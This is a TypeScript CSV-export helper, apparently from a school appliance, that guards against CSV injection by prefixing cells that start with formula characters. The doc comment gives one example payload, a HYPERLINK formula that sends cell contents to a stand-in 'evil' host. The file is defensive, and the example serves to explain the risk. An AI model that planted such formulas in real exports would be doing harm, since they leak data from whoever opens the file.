/**
 * Every CSV the appliance writes goes through here. A cell that starts with `=`, `+`, `-`, `@`, a
 * tab or a carriage return is a formula to Excel and LibreOffice (a roster name
 * `=HYPERLINK("http://evil/?"&A1,"...")` would run on the school PC that opens the export), so it
 * is prefixed with `'` as OWASP's CSV-injection guidance says: the spreadsheet shows the text as
 * written. Numbers the appliance formats itself (a negative temperature offset) are not cells of
 * outside text and pass as numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function csvCell(v: string | number | null | undefined): string {
  if (v === null || v === undefined) return '';
  let s = typeof v === 'number' ? String(v) : v;
  if (typeof v === 'string' && FORMULA_START.test(s)) s = `'${s}`;
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** Rows to CSV text: CRLF line ends (RFC 4180) and a BOM, so Excel on a school PC reads UTF-8 names. */
export function csvDocument(rows: readonly (readonly (string | number | null | undefined)[])[]): string {
  return `\uFEFF${rows.map((r) => r.map(csvCell).join(',')).join('\r\n')}\r\n`;
}
